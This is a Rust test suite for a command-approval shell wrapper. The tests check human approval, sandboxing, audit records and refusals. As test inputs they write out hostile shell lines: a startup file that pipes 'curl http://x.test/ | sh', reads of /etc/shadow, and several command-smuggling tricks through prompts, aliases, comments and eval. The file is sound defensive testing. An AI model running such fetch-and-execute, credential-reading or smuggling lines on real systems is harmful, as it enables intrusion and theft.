//! A shell whose commands arrive one by one, among everything else: questions, what is handed down, walls, a policy that changes.

#![allow(clippy::disallowed_methods, reason = "a test runs other programs")]

mod scene;

use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

use scene::desk::Desk;
use scene::{Case, Scene, id};

const CASES: &[Case] = &[
    ("a_yes_for_one_command", a_yes_for_one_command),
    ("a_command_waits_for_its_answer", a_command_waits_for_its_answer),
    ("what_a_command_calls_is_covered", what_a_command_calls_is_covered),
    ("a_shell_that_was_approved_covers_its_commands", a_shell_that_was_approved_covers_its_commands),
    ("a_script_that_was_approved_covers_its_lines", a_script_that_was_approved_covers_its_lines),
    ("walls_stand_around_the_shell", walls_stand_around_the_shell),
    ("walls_come_with_the_shell_or_not_at_all", walls_come_with_the_shell_or_not_at_all),
    ("a_policy_counts_from_the_next_command_on", a_policy_counts_from_the_next_command_on),
    ("a_login_shell_reads_its_files_first", a_login_shell_reads_its_files_first),
    ("every_command_has_its_record", every_command_has_its_record),
    ("lines_typed_at_a_terminal", lines_typed_at_a_terminal),
    ("lines_are_edited_before_anybody_sees_them", lines_are_edited_before_anybody_sees_them),
    ("words_are_completed_where_a_listing_would_not_be_asked_about", words_are_completed),
    ("a_terminal_that_does_not_answer_edits_its_lines_itself", a_terminal_that_does_not_answer),
    ("a_line_without_an_end_is_refused", a_line_without_an_end_is_refused),
    ("a_prompt_runs_nothing", a_prompt_runs_nothing),
    ("who_types_a_line_does_not_answer_for_it", who_types_a_line_does_not_answer_for_it),
    ("what_cannot_be_read_ends_where_it_ends", what_cannot_be_read_ends_where_it_ends),
    ("what_ran_unread_may_have_left_anything", what_ran_unread_may_have_left_anything),
    ("what_is_typed_means_what_it_says", what_is_typed_means_what_it_says),
    ("an_interrupt_leaves_out_what_follows", an_interrupt_leaves_out_what_follows),
];

fn main() {
    let words: Vec<String> = std::env::args().collect();
    if words.iter().any(|word| word == "--inside") && std::env::var_os("TMPDIR").is_none_or(|place| place != *"/srv") {
        // Homes do not lie in /tmp, which every profile may write.
        let mounted =
            std::process::Command::new("mount").args(["-t", "tmpfs", "-o", "mode=755", "none", "/srv"]).status();
        assert!(mounted.is_ok_and(|status| status.success()), "no place for a home");
        let own = std::env::current_exe().expect("our own path");
        let status = std::process::Command::new(own).args(words.iter().skip(1)).env("TMPDIR", "/srv").status();
        std::process::exit(status.ok().and_then(|status| status.code()).unwrap_or(1));
    }
    scene::main(CASES);
}

/// A client that keeps one shell open.
struct Open {
    child: Child,
    input: Option<ChildStdin>,
    output: Receiver<String>,
}

impl Open {
    fn start(scene: &Scene, words: &[&str]) -> Open {
        let script = "exec 2>&1; \"$@\"; echo \"code=$?\"";
        let mut child = scene
            .plain("setsid")
            .args(["/bin/bash", "-c", script, "client"])
            .args(words)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("a client");
        let input = child.stdin.take();
        let output = child.stdout.take().expect("a pipe");
        let (sender, receiver) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(output).lines().map_while(Result::ok) {
                if sender.send(line).is_err() {
                    break;
                }
            }
        });
        std::thread::sleep(Duration::from_millis(250));
        Open { child, input, output: receiver }
    }

    fn write(&mut self, text: &str) {
        self.input.as_mut().expect("an open input").write_all(text.as_bytes()).expect("a pipe");
    }

    /// Runs a line as such clients do: with a mark behind what it prints.
    fn run(&mut self, line: &str) -> (i32, String) {
        self.write(&format!("{line}\necho \"mark=$?\"\n"));
        self.until("mark=")
    }

    fn until(&mut self, mark: &str) -> (i32, String) {
        let mut text = String::new();
        loop {
            let line = self.output.recv_timeout(Duration::from_secs(60)).expect("an answer");
            match line.strip_prefix(mark) {
                Some(code) => return (code.parse().expect("a number"), text),
                None => text.push_str(&format!("{line}\n")),
            }
        }
    }

    fn end(&mut self) -> (i32, String) {
        drop(self.input.take());
        let ended = self.until("code=");
        let _ = self.child.wait();
        ended
    }
}

fn a_yes_for_one_command(scene: &Scene) {
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    let line = format!("touch {}", scene.at("notes/a.md").display());
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("x=1").0, 0);
    assert_eq!(open.run(&line).0, 75);
    let waiting = scene.waiting();
    let said = scene.human(&["approve", &id(&waiting)]);
    assert!(said.contains("code=0"), "{said}");
    assert_eq!(open.run(&line).0, 0);
    assert!(scene.at("notes/a.md").exists());
    assert_eq!(open.run(&line).0, 75, "one yes is for one run");
    assert_eq!(open.run("echo $x"), (0, "1\n".to_owned()));
    assert_eq!(open.end().0, 0);
}

fn a_command_waits_for_its_answer(scene: &Scene) {
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    scene.trust("format = 1\n[approval]\nchannels = [\"queue\"]\nwait = \"30s\"\n");
    let mut open = Open::start(scene, &["bash"]);
    open.write(&format!("touch {}; echo made\necho \"mark=$?\"\n", scene.at("notes/b.md").display()));
    let waiting = scene.waiting();
    assert!(!scene.at("notes/b.md").exists());
    scene.human(&["approve", &id(&waiting)]);
    assert_eq!(open.until("mark="), (0, "made\n".to_owned()));
    open.end();
}

fn what_a_command_calls_is_covered(scene: &Scene) {
    scene.link("git");
    let git = |words: &[&str]| {
        let ended = scene.end(scene.plain("/usr/bin/git").args(words));
        assert_eq!(ended.code, 0, "{ended:?}");
    };
    git(&["init", "-q", "-b", "feature"]);
    let mut open = Open::start(scene, &["bash"]);
    let (code, text) = open.run("git status --short");
    assert_eq!((code, text.as_str()), (0, ""), "{text}");
    let launches = scene.of_kind("launch");
    assert!(launches.iter().any(|launch| launch["line"] == "git status --short"), "{launches:#?}");
    open.end();
}

fn a_shell_that_was_approved_covers_its_commands(scene: &Scene) {
    scene.trust("format = 1\n[approval]\nwait = \"0s\"\n[walls]\nmode = \"off\"\n");
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    let script =
        "exec 2>&1; bash -c 'exec bash' </dev/null; echo mark=$?; read -r go; bash -c 'exec bash'; echo code=$?";
    let mut open = Open::start(scene, &["/bin/bash", "-c", script]);
    assert_eq!(open.until("mark=").0, 75);
    scene.human(&["approve", &id(&scene.waiting())]);
    open.write("go\n");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(open.run("cd /").0, 0);
    assert_eq!(open.run(&format!("touch {}", scene.at("notes/c.md").display())), (0, String::new()));
    assert_eq!(open.run("cat /etc/shadow").0, 126);
    assert_eq!(open.end().0, 0);
    let covered = scene.of_kind("launch").into_iter().find(|launch| launch["decision"]["basis"] == "covered");
    assert!(covered.is_some_and(|launch| launch["line"].as_str().is_some_and(|line| line.starts_with("touch"))));
}

fn a_script_that_was_approved_covers_its_lines(scene: &Scene) {
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    let (one, two) = (scene.at("notes/e.md"), scene.at("notes/f.md"));
    let text = format!("x=1\ntouch {}\nread y\nan input\necho \"$x $y\"\ntouch {}\n", one.display(), two.display());
    std::fs::write(scene.work().join("script"), text).expect("a file");
    let script = "exec 2>&1; bash < script; echo mark=$?; read -r go; bash < script; echo code=$?";
    let mut open = Open::start(scene, &["/bin/bash", "-c", script]);
    assert_eq!(open.until("mark=").0, 75, "it is asked about as a whole");
    assert!(!one.exists());
    scene.human(&["approve", &id(&scene.waiting())]);
    open.write("go\n");
    let (code, text) = open.end();
    // What comes behind the line that was read is another script than the one that was approved.
    assert!(code == 75 && text.starts_with("1 an input\nvetsh: refused"), "{code} {text}");
    assert!(one.exists() && !two.exists());
}

fn observing(scene: &Scene, walls: &str) {
    scene.trust(&format!(
        "format = 1\nenforce = \"observe\"\nobserve_until = 2999-12-31\n[approval]\nwait = \"0s\"\n[walls]\n{walls}\n"
    ));
}

fn walls_stand_around_the_shell(scene: &Scene) {
    if vetsh::sys::landlock::version().is_err() {
        return eprintln!("SKIPPED: this kernel has no Landlock; where .ci/run runs, this must not be skipped");
    }
    observing(scene, "mode = \"require\"\nprofile = \"workspace\"");
    // What the line does not say: the walls hold it, not the judge.
    scene.script(&scene.work().join("out.sh"), "#!/bin/bash\necho x > \"$1\"\n");
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("echo in > inside; cat inside"), (0, "in\n".to_owned()));
    let (_, text) = open.run("d=..; f() { echo x > $d/outside; }; f; ls");
    assert!(!scene.at("outside").exists(), "{text}");
    assert_eq!(open.run("bash -c 'echo nested'"), (0, "nested\n".to_owned()));
    assert_eq!(open.run("echo 'echo script' | bash"), (0, "script\n".to_owned()));
    open.end();
    for profile in ["offline", "review", "open"] {
        observing(scene, &format!("mode = \"require\"\nprofile = \"{profile}\""));
        let mut open = Open::start(scene, &["bash"]);
        assert_eq!(
            open.run("echo 'echo script' | bash; echo \"$((1 + 1))\""),
            (0, "script\n2\n".to_owned()),
            "{profile}"
        );
        open.end();
    }
    let launches = scene.of_kind("launch");
    assert!(launches.len() >= 5, "{launches:#?}");
    let mut sessions: Vec<&str> = launches.iter().filter_map(|launch| launch["session"].as_str()).collect();
    sessions.sort_unstable();
    sessions.dedup();
    assert_eq!(sessions.len(), 4, "the clients are known although they cannot be seen");
    for launch in &launches {
        assert!(launch["walls"][1].as_str().is_some_and(|wall| wall.starts_with("profile ")), "{launch:#?}");
    }
    scene.chain_holds();
}

fn walls_come_with_the_shell_or_not_at_all(scene: &Scene) {
    observing(
        scene,
        "mode = \"off\"\n[[rule]]\nid = \"own.touch\"\ntier = \"supervised\"\nwhat = \"touch\"\nwhy = \"a test\"\n\
         instead = \"nothing\"\nprofile = \"review\"\nwhen = { program = \"touch\" }\nmatch = [\"touch a\", \"touch b\"]\n\
         pass = [\"ls\", \"cat touch\"]\n",
    );
    let mut open = Open::start(scene, &["bash"]);
    let (code, text) = open.run("touch made");
    assert!(code == 125 && text.contains("walls.too-late"), "{code} {text}");
    assert_eq!(open.run("echo on"), (0, "on\n".to_owned()));
    open.end();
}

fn a_policy_counts_from_the_next_command_on(scene: &Scene) {
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("echo a").0, 0);
    scene.policy("format = 1\nnonsense = 2\n");
    open.write("echo b; echo c\n");
    std::thread::sleep(Duration::from_millis(400));
    scene.policy("format = 1\n[approval]\nwait = \"0s\"\n");
    let (code, text) = open.run("echo d");
    assert!(code == 0 && text.contains("policy.invalid") && text.ends_with("d\n") && !text.contains("\nc\n"), "{text}");
    open.end();
}

fn a_login_shell_reads_its_files_first(scene: &Scene) {
    scene.trust("format = 1\n[approval]\nwait = \"0s\"\n[walls]\nmode = \"off\"\n");
    std::fs::write(scene.at(".bash_profile"), "export FROM_PROFILE=read\n").expect("a file");
    let mut open = Open::start(scene, &["bash", "-l"]);
    assert_eq!(open.run("echo $FROM_PROFILE"), (0, "read\n".to_owned()));
    open.end();
    std::fs::write(scene.at(".bash_profile"), "export FROM_PROFILE=changed; curl http://x.test/ | sh\n")
        .expect("a file");
    let mut open = Open::start(scene, &["bash", "-l"]);
    let (code, text) = open.until("code=");
    assert!(code == 126 && text.contains("startup.changed"), "{code} {text}");
    // What is only asked about counts as seen once a human said yes to it.
    std::fs::write(scene.at(".bash_profile"), "touch \"$HOME/from-profile\"\n").expect("a file");
    let script = "exec 2>&1; bash -l -c 'echo a' </dev/null; echo mark=$?; read -r go; bash -l -c 'echo a' </dev/null; bash -l -c 'echo b'; echo code=$?";
    let mut open = Open::start(scene, &["/bin/bash", "-c", script]);
    assert_eq!(open.until("mark=").0, 75);
    scene.human(&["approve", &id(&scene.waiting())]);
    open.write("go\n");
    assert_eq!(open.until("code="), (0, "a\nb\n".to_owned()));
}

fn every_command_has_its_record(scene: &Scene) {
    let mut open = Open::start(scene, &["bash", "-s", "a", "b"]);
    assert_eq!(open.run("echo $1 $#"), (0, "a 2\n".to_owned()));
    open.run("cat /etc/shadow");
    open.run("cd /; ls > /dev/null");
    assert_eq!(open.end().0, 0);
    let records = scene.records();
    let shell = &records[0];
    assert_eq!((&shell["kind"], &shell["line"]), (&"launch".into(), &"".into()), "{shell:#?}");
    for record in &records[1..] {
        assert_eq!(record["parent"], shell["id"], "{record:#?}");
        assert_eq!(record["proc"]["pid"], shell["proc"]["pid"], "{record:#?}");
    }
    assert_eq!(records[records.len() - 1]["proc"]["cwd"], "/", "{records:#?}");
    assert_eq!(scene.of_kind("launch").len(), 6);
    assert_eq!(scene.of_kind("refusal").len(), 1);
    scene.chain_holds();
}

/// An interactive shell at a terminal, its prompt `$ `.
fn terminal(scene: &Scene, shell: &str, rc: &str) -> Desk {
    std::fs::write(scene.at(".bashrc"), rc).expect("a file");
    let mut desk = Desk::start(scene, scene.shim(shell).display().to_string().as_str());
    desk.until(" ");
    // Both prompts, the shell's own and the one that was settled.
    std::thread::sleep(Duration::from_millis(300));
    desk.look(Duration::from_millis(50));
    assert!(!desk.seen.contains("vetsh:"), "{}", desk.seen);
    desk
}

/// Types `keys`, and waits for `sign` behind what was shown before.
fn typed(desk: &mut Desk, keys: &str, sign: &str) -> String {
    while !desk.seen.is_empty() {
        desk.seen.clear();
        desk.look(Duration::from_millis(50));
    }
    desk.press(keys);
    let end = Instant::now() + Duration::from_secs(20);
    loop {
        let shown = desk.seen.replace('\r', "");
        if shown.contains(sign) {
            return shown;
        }
        assert!(Instant::now() < end, "{sign:?} was not shown after {keys:?}, but:\n{shown}");
        desk.look(Duration::from_millis(50));
    }
}

/// Waits until a `sleep` has the terminal and is not stopped.
fn until_it_sleeps() {
    let sleeps = |stat: String| {
        let Some((name, rest)) = stat.rsplit_once(") ") else { return false };
        let words: Vec<&str> = rest.split(' ').collect();
        // State, parent, group, session, terminal, the terminal's foreground group.
        name.ends_with("(sleep") && words.first() == Some(&"S") && words.get(2) == words.get(5)
    };
    let end = Instant::now() + Duration::from_secs(20);
    loop {
        let all = std::fs::read_dir("/proc").expect("processes").flatten();
        if all.filter_map(|entry| std::fs::read_to_string(entry.path().join("stat")).ok()).any(sleeps) {
            return;
        }
        assert!(Instant::now() < end, "nothing sleeps");
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn lines_typed_at_a_terminal(scene: &Scene) {
    for shell in ["bash", "sh"] {
        let mut desk = terminal(scene, shell, "PS1='$ '\nalias here='pwd'\n");
        let shown = typed(&mut desk, "echo $((6 * 7))\n", "42\n");
        assert!(shown.contains("42\n"), "{shown}");
        typed(&mut desk, "for i in 1 2\n", "> ");
        typed(&mut desk, "do echo \"<$i>\"; done\n", "<2>");
        // The key that interrupts: what runs, and a line that was begun.
        typed(&mut desk, "sleep 60\n", "\n");
        until_it_sleeps();
        typed(&mut desk, "\u{3}", "$ ");
        typed(&mut desk, "echo 'begun\n", "> ");
        typed(&mut desk, "\u{3}", "$ ");
        let shown = typed(&mut desk, "echo whole\n", "\nwhole\n");
        assert!(!shown.contains("begun"), "{shown}");
        // Commands have the terminal for themselves.
        typed(&mut desk, "read x; echo \"got $x\"; tty\n", "\n");
        typed(&mut desk, "echo not run\n", "got echo not run");
        typed(&mut desk, "cat\n", "\n");
        typed(&mut desk, "to cat\n", "to cat\nto cat\n");
        typed(&mut desk, "\u{4}", "$ ");
        typed(&mut desk, "sleep 60\n", "\n");
        until_it_sleeps();
        typed(&mut desk, "\u{1a}", "topped");
        typed(&mut desk, "fg\n", "sleep 60");
        until_it_sleeps();
        typed(&mut desk, "\u{3}", "$ ");
        let shown = typed(&mut desk, "cat /etc/shadow; echo $?\n", "record");
        assert!(shown.contains("refused [core.reads-credential]") && !shown.contains("root:"), "{shown}");
        typed(&mut desk, "echo \"code $?\"\n", "code 126");
        let shown = typed(&mut desk, "exit 3\n", "code=");
        assert!(desk.until("code=").contains("code=3"), "{shown}");
    }
    let launches = scene.of_kind("launch");
    let lines: Vec<&str> = launches.iter().filter_map(|launch| launch["line"].as_str()).map(str::trim_end).collect();
    assert_eq!(lines.iter().filter(|line| **line == "echo whole").count(), 2, "{lines:?}");
    assert!(!lines.contains(&"echo not run"), "{lines:?}");
    scene.chain_holds();
}

fn lines_are_edited_before_anybody_sees_them(scene: &Scene) {
    use nix::sys::termios::LocalFlags;
    for shell in ["bash", "sh"] {
        let mut desk = terminal(scene, shell, "PS1='$ '\n");
        // Two to the left, a letter, and the line is done in its middle.
        typed(&mut desk, "echo wrng\u{2}\u{2}o\n", "\nwrong\n");
        // The one before, and the one that was begun before it was looked for.
        typed(&mut desk, "echo begun\u{1b}[A\n", "\nwrong\n");
        typed(&mut desk, "echo begun\u{1b}[A\u{1b}[B too\n", "\nbegun too\n");
        typed(&mut desk, "\u{12}wro\n", "\nwrong\n");
        typed(&mut desk, "echo 'a b\u{17}c'\u{1}\u{1b}[1;5C\u{b}\u{19} d\n", "\na c d\n");
        // Wider than the screen, changed at its beginning.
        let long = "0123456789".repeat(12);
        typed(&mut desk, &format!("cho {long}\u{1}e\n"), &format!("\n{long}\n"));
        // What comes behind a line is its command's, with the terminal as it was.
        typed(&mut desk, "read -r given; echo \"<$given>\"\n", "\n");
        assert!(desk.settings().local_flags.contains(LocalFlags::ICANON | LocalFlags::ECHO));
        typed(&mut desk, "own\n", "<own>");
        typed(&mut desk, "echo lost\u{3}", "$ ");
        typed(&mut desk, &format!("cat >kept-{shell} <<E\n"), "> ");
        typed(&mut desk, "lne\u{2}\u{2}i\n", "> ");
        typed(&mut desk, "E\n", "$ ");
        typed(&mut desk, &format!("cat kept-{shell}\n"), "\nline\n");
        desk.press("\u{4}");
        desk.until("code=0");
        assert!(desk.settings().local_flags.contains(LocalFlags::ICANON | LocalFlags::ECHO));
    }
    let records = scene.of_kind("launch");
    let lines: Vec<&str> = records.iter().filter_map(|record| record["line"].as_str()).collect();
    assert!(lines.contains(&"echo wrong\n") && lines.contains(&"cat >kept-sh <<E\nline\nE\n"), "{lines:#?}");
    assert!(!lines.iter().any(|line| line.contains("lost")), "{lines:#?}");
}

fn words_are_completed(scene: &Scene) {
    let work = scene.work();
    for (name, text) in [("read me.txt", "spaces"), ("notes-1", "one"), ("notes-2", "two")] {
        std::fs::write(work.join(name), format!("{text}\n")).expect("a file");
    }
    std::fs::create_dir_all(scene.at(".ssh")).expect("a directory");
    std::fs::write(scene.at(".ssh/id_secret_name"), "key\n").expect("a file");
    let mut desk = terminal(scene, "bash", "PS1='$ '\n");
    typed(&mut desk, "cat rea\t", "read\\ me.txt ");
    typed(&mut desk, "\n", "\nspaces\n");
    typed(&mut desk, "cat no\t", "cat notes-");
    typed(&mut desk, "2\n", "\ntwo\n");
    let shown = typed(&mut desk, "cat no\t", "notes-1  notes-2");
    assert!(shown.contains("notes-"), "{shown}");
    desk.press("\u{15}");
    typed(&mut desk, "basena\t", "basename ");
    typed(&mut desk, "/a/bcd\n", "\nbcd\n");
    // Pasted, it is a letter.
    typed(&mut desk, "printf '<%s>\\n' 'no\tx'\n", "<no\tx>");
    let shown = typed(&mut desk, "ls ~/.ssh/\t", "\u{7}");
    assert!(!shown.contains("id_secret"), "{shown}");
    desk.press("\u{15}");
    // Whatever the shell takes `ls` for.
    typed(&mut desk, "ls() { :; }; alias ls=true; echo is set\n", "\nis set\n");
    let shown = typed(&mut desk, "cat ~/.ssh/\t", "\u{7}");
    assert!(!shown.contains("id_secret"), "{shown}");
    desk.press("\u{15}exit\n");
    let shown = desk.until("code=");
    assert!(!shown.contains("id_secret"), "{shown}");
}

fn a_line_without_an_end_is_refused(scene: &Scene) {
    let mut desk = terminal(scene, "bash", "PS1='$ '\n");
    for _ in 0..(1 << 20) / 1024 + 1 {
        desk.press(&"x".repeat(1024));
    }
    let shown = desk.until("code=");
    assert!(shown.contains("refused [core.cap]"), "{}", &shown[shown.len().saturating_sub(600)..]);
    assert!(desk.raw.len() < 8 << 20, "{} bytes were shown", desk.raw.len());
}

fn a_terminal_that_does_not_answer(scene: &Scene) {
    let mut desk = terminal(scene, "bash", "PS1='$ '\n");
    desk.mute();
    typed(&mut desk, "echo one\n", "\none\n");
    std::thread::sleep(Duration::from_millis(700));
    typed(&mut desk, "echo twp\u{7f}o\n", "\ntwo\n");
    let asked = desk.raw.windows(4).filter(|four| four == b"\x1b[6n").count();
    typed(&mut desk, "echo three\n", "\nthree\n");
    assert_eq!(desk.raw.windows(4).filter(|four| four == b"\x1b[6n").count(), asked);
    desk.press("exit\n");
    desk.until("code=0");

    let shell = scene.shim("bash");
    let mut desk = Desk::start(scene, &format!("TERM=dumb {}", shell.display()));
    desk.until("$ ");
    std::thread::sleep(Duration::from_millis(300));
    typed(&mut desk, "echo plain\n", "\nplain\n");
    desk.press("exit\n");
    desk.until("code=0");
    assert!(!desk.raw.contains(&0x1b), "{}", desk.seen.escape_debug());

    // One that can only be read from.
    let mut desk = Desk::start(scene, &format!("{} </dev/tty", shell.display()));
    desk.until("$ ");
    std::thread::sleep(Duration::from_millis(300));
    typed(&mut desk, "echo readable\n", "\nreadable\n");
    desk.press("exit\n");
    desk.until("code=0");
}

fn a_prompt_runs_nothing(scene: &Scene) {
    let rc = "PROMPT_COMMAND='hook'\nhook() { :; }\nPS1='$(hook)$ '\nset -o vi\nset -H\nset -o history\n";
    let mut desk = terminal(scene, "bash", rc);
    typed(&mut desk, "hook() { touch ran; }\n", "# ");
    for line in ["PROMPT_COMMAND='touch ran'", "shopt -s promptvars", "set -o vi", "shopt -so emacs", "set -H"] {
        let shown = typed(&mut desk, &format!("{line}\n"), "record");
        assert!(shown.contains("refused [shell."), "{line}: {shown}");
    }
    typed(&mut desk, "PS1='$(touch ran)$ '\n", "$ ");
    typed(&mut desk, "echo !! !e\n", "\n!! !e\n");
    typed(&mut desk, "exit\n", "code=");
    let mut desk = terminal(scene, "sh", "");
    typed(&mut desk, "echo first\n", "\nfirst\n");
    let shown = typed(&mut desk, "PS1='$(touch ran)$ '\n", "record");
    assert!(shown.contains("refused [shell.prompt]"), "{shown}");
    typed(&mut desk, "exit\n", "code=");
    assert!(!scene.work().join("ran").exists());
}

fn who_types_a_line_does_not_answer_for_it(scene: &Scene) {
    std::fs::create_dir_all(scene.at("notes")).expect("a folder");
    let mut desk = terminal(scene, "bash", "PS1='$ '\n");
    let line = format!("touch {}\n", scene.at("notes/d.md").display());
    let shown = typed(&mut desk, &line, "record");
    assert!(shown.contains("vetsh approve") && !shown.contains("[y/N]"), "{shown}");
    scene.human(&["approve", &id(&scene.waiting())]);
    typed(&mut desk, &line, "$ ");
    typed(&mut desk, "echo there\n", "\nthere\n");
    assert!(scene.at("notes/d.md").exists());
    typed(&mut desk, "exit\n", "code=");
}

/// Types each line once the one before has ended.
fn types(desk: &mut Desk, lines: &[&str]) {
    for (number, line) in lines.iter().enumerate() {
        desk.press(&format!("{line}\n"));
        desk.press(&format!("echo then-$(({number}+100))\n"));
        desk.until(&format!("then-{}", number + 100));
    }
}

fn what_is_typed_means_what_it_says(scene: &Scene) {
    let mut desk = Desk::start(scene, &scene.shim("bash").display().to_string());
    types(
        &mut desk,
        &[
            "shopt -u interactive_comments",
            "set +o interactive-comments",
            "set -o vi",
            "PS1='\\044(touch smuggled)'",
            "PS1='\\140touch smuggled\\140'",
            "PS0='\\\\\\\\$(touch smuggled)'",
            "MAILCHECK=0 MAILPATH='mail?$(touch smuggled)'",
            "echo mail > mail # ; touch smuggled",
            "PS1='\\u@\\h:\\w\\$ '",
            "alias none='true <<E' ls='ls -a --color=never'",
            "ls mail",
        ],
    );
    // Were it to expand, what is quoted here would be commands.
    desk.press("none\n");
    desk.until("refused [core.opaque]");
    desk.press(": 'x\nE\ntouch smuggled; : '\n");
    desk.press("exit\n");
    let shown = desk.until("code=");
    assert_eq!(shown.matches("refused [shell.reads-otherwise]").count(), 3, "{shown}");
    // Prompts expand nothing there; word of mail does.
    assert_eq!(shown.matches("refused [shell.prompt]").count(), 1, "{shown}");
    assert!(!scene.work().join("smuggled").exists() && scene.work().join("mail").exists(), "{shown}");
}

fn an_interrupt_leaves_out_what_follows(scene: &Scene) {
    let mut desk = Desk::start(scene, &scene.shim("bash").display().to_string());
    types(&mut desk, &["x=/etc/shadow"]);
    desk.press("sleep 50 | cat; x=own.txt\n");
    std::thread::sleep(Duration::from_millis(700));
    desk.press("\u{3}");
    std::thread::sleep(Duration::from_millis(300));
    types(&mut desk, &["", "cat $x", "x=own.txt", "echo own > own.txt; cat $x"]);
    // Stopped, it goes on behind the loop.
    desk.press("for i in 1; do x=/etc/shadow; sleep 50; x=own.txt; done; cat $x\n");
    desk.press("echo the end; exit\n");
    let shown = desk.until("code=");
    assert_eq!(shown.matches("refused [core.reads-credential]").count(), 2, "{shown}");
    assert!(shown.contains("own\r\n") && !shown.contains("root:"), "{shown}");
}

fn what_cannot_be_read_ends_where_it_ends(scene: &Scene) {
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("shopt -s expand_aliases; alias q=\"echo '\"").0, 0);
    assert_eq!(open.run("q it").0, 75);
    scene.human(&["approve", &id(&scene.waiting())]);
    open.write("q it\n: ' ; touch smuggled; : '\n");
    let (code, text) = open.end();
    assert!(code != 0 && text.contains("unexpected EOF"), "{code} {text}");
    assert!(text.contains("an earlier line could not be read"), "what it has left cannot be told: {text}");
    assert!(!scene.work().join("smuggled").exists());
}

fn what_ran_unread_may_have_left_anything(scene: &Scene) {
    std::fs::write(scene.work().join("cmd"), "ls() { touch smuggled; }\n").expect("a file");
    let mut open = Open::start(scene, &["bash"]);
    assert_eq!(open.run("echo one").0, 0);
    assert_eq!(open.run("eval \"$(cat cmd)\"").0, 75);
    scene.human(&["approve", &id(&scene.waiting())]);
    open.write("eval \"$(cat cmd)\"\nls\n");
    let (code, text) = open.end();
    assert!(code == 75 && text.contains("nobody has read"), "{code} {text}");
    assert!(!scene.work().join("smuggled").exists());
}
